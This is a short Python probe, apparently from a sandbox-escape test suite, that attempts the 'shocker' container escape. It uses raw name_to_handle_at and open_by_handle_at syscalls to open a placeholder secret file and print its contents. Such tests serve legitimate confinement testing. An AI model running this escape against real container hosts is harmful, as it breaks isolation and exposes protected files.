# id: na06-open-by-handle
# category: native
# effect: name_to_handle_at + open_by_handle_at on the secret (the 'shocker' escape)
# touches_os: yes
# destructive: no
# fast: no
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sys_(*a):
    r = libc.syscall(*a)
    e = ctypes.get_errno()
    return r, (errno.errorcode.get(e, str(e)) if r < 0 else "OK")
h = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(h, (128).to_bytes(4, "little"), 4)
mnt = ctypes.c_int()
r, e = sys_(303, -100, b"{SECRET}", h, ctypes.byref(mnt), 0)
print("ESCAPE-RESULT: name_to_handle_at=%d errno=%s" % (r, e))
fd, e = sys_(304, -100, h, 0)
print("ESCAPE-RESULT: open_by_handle_at=%d errno=%s" % (fd, e))
if fd >= 0:
    buf = ctypes.create_string_buffer(200)
    libc.read(fd, buf, 200)
    print(buf.value)
